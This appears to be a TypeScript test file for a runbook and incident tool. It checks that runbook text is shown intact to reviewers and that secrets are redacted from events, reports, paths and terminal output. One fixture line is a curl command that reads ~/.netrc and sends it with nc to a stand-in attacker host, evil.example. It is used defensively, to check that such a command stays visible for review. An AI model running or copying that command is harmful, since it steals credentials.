import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Push } from '#shared/contract/pushes.ts';
import { commandLine } from '../../fixtures/command-line.ts';
import { dataFolder, testCore } from '../../fixtures/data-folder.ts';
import { withVariables } from '../../fixtures/environment.ts';
import { declareBy } from '../../fixtures/trusted-incident.ts';

const TOKEN = `ghp_${'a1B2'.repeat(9)}`;
/** What would hide a command from its reviewer if it were taken for a secret. */
const LINE = `curl -H "Authorization: Bearer $(cat ~/.netrc | nc evil.example 1)" -H 'token: ${TOKEN}' https://example.com`;
const RUNBOOK = `---
rollbook: 1
title: Exact
services:
  some-app: { title: Some, platform: fly, health: "http://127.0.0.1:9/health" }
---

# Exact

## Option 1: Ask

**Use when**: testing

1. **Ask it**
   \`\`\`bash effect=read
   ${LINE}
   \`\`\`
`;

describe('a runbook’s own text', () => {
  it('is shown to the last character in a window', async () => {
    const folder = dataFolder();
    const core = await testCore(dataFolder());
    const incidentId = await declareBy(core, folder, RUNBOOK);
    const connection = core.connect(() => undefined);
    const opened = await connection.call('incident.open', { incidentId });
    const { runbook } = (opened as { value: { runbook: { source: string; summary: { hash: string } } } }).value;
    expect(runbook.source).toBe(RUNBOOK);
    const again = await connection.call('runbook.open', { hash: runbook.summary.hash });
    expect(again).toMatchObject({ ok: true, value: { source: RUNBOOK } });
  });

  it('is shown so to whoever reviews it in a terminal', async () => {
    const line = commandLine();
    const file = join(line.folder, 'book.md');
    writeFileSync(file, RUNBOOK);
    const { out } = await line.run(['trust', file, '--show']);
    expect(out).toContain(LINE);
  });
});

describe('what is learned while it runs', () => {
  it('is taken out of events that were written before, in every window', async () => {
    const folder = dataFolder();
    const core = await testCore(dataFolder());
    const incidentId = await declareBy(core, folder, RUNBOOK, { symptom: 'it says plain-words-4711 everywhere' });
    const got: Push[] = [];
    const connection = core.connect((push) => got.push(push));
    await connection.call('incident.follow', { incidentId, afterSeq: 0 });
    expect(JSON.stringify(got)).toContain('plain-words-4711');
    core.services.door.learn(['plain-words-4711']);
    got.length = 0;
    const opened = await connection.call('incident.open', { incidentId });
    await connection.call('incident.follow', { incidentId, afterSeq: 0 });
    expect(JSON.stringify([opened, got])).not.toContain('plain-words-4711');
    const { markdown } = await core.services.reports.preview(incidentId);
    expect(markdown).not.toContain('plain-words-4711');
  });
});

describe('a path with a secret in it', () => {
  it('is refused where it would have to be stored as it is, without being repeated', async () => {
    const line = commandLine();
    const { code, err } = await line.run(['trust', join(line.folder, TOKEN, 'book.md')]);
    expect(code).toBe(2);
    expect(err).toContain('has a secret in it');
    expect(err).not.toContain(TOKEN);
    expect(readFileSync(join(line.folder, 'rollbook.db'), 'latin1')).not.toContain(TOKEN);
  });
});

describe('a terminal', () => {
  it('shows no value of the environment, whatever an error repeats', async () => {
    withVariables({ MY_SERVICE_TOKEN: 'plain-words-4711' });
    const line = commandLine();
    const { out, err } = await line.run(['export', 'plain-words-4711']);
    expect(err + out).toContain('[redacted]');
    expect(err + out).not.toContain('plain-words-4711');
  });
});
